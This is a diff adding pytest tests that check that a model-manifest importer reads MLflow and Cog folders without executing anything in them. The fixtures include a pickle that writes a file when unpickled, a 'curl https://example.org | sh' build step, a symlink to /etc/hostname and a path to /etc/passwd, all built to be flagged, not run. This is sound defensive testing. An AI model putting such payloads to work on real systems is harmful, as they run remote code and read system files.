@@ -1,5 +1,6 @@
 """Manifests that are broken in twenty ways, the authors' own, planted code, and a catalog of thousands."""
 import os
+import pickle
 from pathlib import Path
 
 import pytest
@@ -130,6 +131,90 @@ def test_others_files_are_read_leniently_and_what_is_not_understood_is_told(name
     (tmp_path / "net.yml").write_text("name: a\nframework: Caffe\nmodel: {graph_path: [[a]], is_archive: {}}\nversion: {a: 1}\n")
     try: import_any(tmp_path / "net.yml")
     except ManifestError as e: assert "net.yml" in str(e)
+
+
+class Bite:
+    "What writes a file when it is unpickled."
+    def __init__(self, trap): self.trap = str(trap)
+    def __reduce__(self): return open, (self.trap, "w")
+
+
+MLMODEL = """artifact_path: model
+flavors:
+  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, code: code}
+  sklearn: {pickled_model: model.pkl, sklearn_version: 1.5.2}
+model_uuid: e7487bc3c4ab417c965144efcecaca2f
+signature:
+  inputs: '[{"type": "double", "name": "age"}, {"type": "long", "name": "n"}]'
+  outputs: '[{"type": "tensor", "tensor-spec": {"dtype": "int64", "shape": [-1, 3]}}]'
+"""
+
+
+def test_an_mlflow_folder_is_imported_and_nothing_in_it_is_loaded(tmp_path):
+    "By hand, as older versions wrote it: a pickle that bites, code of its own, a link that leads out."
+    folder, trap = tmp_path / "runs" / "model", tmp_path / "trap"
+    (folder / "code").mkdir(parents=True)
+    (folder / "MLmodel").write_text(MLMODEL)
+    (folder / "model.pkl").write_bytes(pickle.dumps(Bite(trap)))
+    (folder / "code/own.py").write_text(f"open({str(trap)!r}, 'w')\n")
+    (folder / "out").symlink_to("/etc/hostname")
+    (folder / "conda.yaml").write_text("dependencies:\n- python=3.10.4\n- pip: [scikit-learn==1.4.0, 'git+https://example.org/x']\n")
+    for given in (folder, folder / "MLmodel", tmp_path):
+        found = {m.kind: m for m in import_any(given)}
+        model, software = found["model"], found["software"]
+        assert model.id == "model/mlflow/model-e7487bc3@0.0.0" and model.weights_class == "imported"
+        assert software.python == "==3.10.4" and software.libraries == {"scikit-learn": "==1.4.0"}
+    assert {r.name for r in model.resources} == {"MLmodel", "conda.yaml", "model.pkl", "code/own.py"} and all(r.sha256 for r in model.resources)
+    assert model.inputs[0].shape == ["batch", 2] and model.outputs[0].shape == ["batch", 3]
+    said = "\n".join(model.unknown + software.unknown)
+    for words in ("MLmodel says 1.5.2, the requirements ==1.4.0", "model.pkl can be trusted", "out: leads out", "git+https://example.org/x"): assert words in said
+    assert type(model).model_validate(model.model_dump()).digest == model.digest and not trap.exists()
+
+
+def test_what_mlflow_itself_wrote(tmp_path, monkeypatch):
+    mlflow = pytest.importorskip("mlflow")
+    from mlflow.models import ModelSignature
+    from mlflow.types.schema import ColSpec, Schema
+    model = mlflow.models.Model(signature=ModelSignature(Schema([ColSpec("float", "a")]), Schema([ColSpec("long")])))
+    model.add_flavor("xgboost", xgb_version="3.0.0", data="model.ubj")
+    (tmp_path / "trees").mkdir()
+    model.save(str(tmp_path / "trees" / "MLmodel"))
+    (tmp_path / "trees" / "requirements.txt").write_text("xgboost==3.0.0\n-r more.txt\n")
+    found, software = import_any(tmp_path / "trees")
+    assert (found.framework.name, found.framework.version) == ("XGBoost", "==3.0.0") and found.attributes["model_uuid"] == model.model_uuid
+    assert found.inputs[0].element_type == "float32" and found.outputs[0].parameters["columns"][0]["type"] == "long"
+    assert "the requirement '-r more.txt' isn't understood" in software.unknown
+
+
+def test_a_cog_project_is_imported_and_nothing_in_it_is_run(tmp_path):
+    folder, trap = tmp_path / "Photo to words", tmp_path / "trap"
+    folder.mkdir()
+    (folder / "predict.py").write_text(f"""open({str(trap)!r}, 'w')
+class Predictor(BasePredictor):
+    def setup(self): fetch("https://example.org/w.pt")
+    async def predict(self, image: Path = Input(description="A photograph"), n: int = Input(default=os.cpu_count(), ge=1)) -> Iterator[str]: ...
+""")
+    (folder / "requirements.txt").write_text("torch==2.1.0\n")
+    (folder / "cog.yaml").write_text("""build: {gpu: false}
+predict: "predict.py:Predictor"
+image: r8.im/me/net
+build: {gpu: yes, cuda: "12.1", python_version: 3.10, python_requirements: requirements.txt, system_packages: [ffmpeg], run: ["curl https://example.org | sh"]}
+""")
+    model, software, hardware = import_any(folder)
+    assert model.id == "model/cog/Photo-to-words@0.0.0" and model.weights_class == "imported" and not trap.exists()
+    image, n = model.inputs
+    assert (image.type, image.description, n.parameters) == ("file", "A photograph", {"default": "os.cpu_count()", "ge": 1})
+    assert model.outputs[0].type == "text, in parts" and [f.name for f in software.frameworks] == ["PyTorch", "CUDA"]
+    assert hardware.accelerators[0].kind == "cuda" and software.container["any"].image == "r8.im/me/net"
+    said = "\n".join(model.unknown + software.unknown)
+    for words in ("'build' stands here again", "https://example.org/w.pt: no checksum", "3.10 would look like 3.1", "packages ffmpeg", "curl https://example.org | sh"):
+        assert words in said, said
+    for text, why in (("[1]", "not a cog.yaml"), ("a: 1", "not a cog.yaml"), ("a: [", "no YAML")):
+        (folder / "cog.yaml").write_text(text)
+        with pytest.raises(ManifestError, match=why): import_any(folder)
+    (folder / "cog.yaml").write_text("predict: ../predict.py:Predictor\nbuild: {python_requirements: /etc/passwd}")
+    model, software, _ = import_any(folder, form="cog")
+    assert not model.inputs and not software.libraries and any("no file '/etc/passwd'" in said for said in software.unknown)
 
 
 def test_the_authors_manifests():
